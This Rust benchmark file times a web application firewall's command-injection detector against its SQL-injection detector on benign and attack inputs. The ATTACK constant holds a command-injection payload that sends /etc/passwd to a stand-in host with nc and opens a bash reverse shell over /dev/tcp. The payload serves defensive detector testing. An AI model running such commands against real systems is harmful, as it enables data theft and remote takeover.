//! What `is_cmdi` costs per value, against an in-run baseline: `is_sqli`
//! on the same inputs (a tokenizer-grade detector the WAF already runs on
//! every field). Inputs: a benign 200-byte form value with the prose
//! punctuation that makes the shell lexer read it (`'`, `&`, `;`, `(`), a
//! benign value with no shell metacharacter (the early exit), and an
//! attack.
//!
//! `cargo bench -p edgewall-engine --bench cmdi`

// Benches are not request paths.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::hint::black_box;

use criterion::{criterion_group, criterion_main, Criterion};
use edgewall_engine::waf::detect::{is_cmdi, is_sqli};

const BENIGN: &str = "Hi Anna, thanks for the quick reply! I'm at home today & tomorrow; \
                      could you send the updated invoice (PDF, not the .docx) to \
                      billing@example.com? Tom says the Q&A session moved to 3pm. Cheers, Bob :)";
const PLAIN: &str = "Hi Anna thanks for the quick reply I am at home today and tomorrow \
                     could you send the updated invoice PDF not the docx to billing at \
                     example dot com Tom says the session moved to three pm Cheers Bob k";
const ATTACK: &str =
    "127.0.0.1; {cat,/etc/passwd} | nc evil.example 4444 && bash -i >& /dev/tcp/1.2.3.4/4444 0>&1";

fn bench(c: &mut Criterion) {
    assert_eq!(BENIGN.len(), 200, "{}", BENIGN.len());
    assert_eq!(PLAIN.len(), 200, "{}", PLAIN.len());
    assert!(is_cmdi(BENIGN.as_bytes()).is_none());
    assert!(is_cmdi(PLAIN.as_bytes()).is_none());
    assert!(is_cmdi(ATTACK.as_bytes()).is_some());
    let mut g = c.benchmark_group("cmdi");
    for (name, input) in [
        ("benign_200b", BENIGN),
        ("plain_200b", PLAIN),
        ("attack", ATTACK),
    ] {
        g.bench_function(format!("baseline_is_sqli/{name}"), |b| {
            b.iter(|| is_sqli(black_box(input.as_bytes())))
        });
        g.bench_function(format!("is_cmdi/{name}"), |b| {
            b.iter(|| is_cmdi(black_box(input.as_bytes())))
        });
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
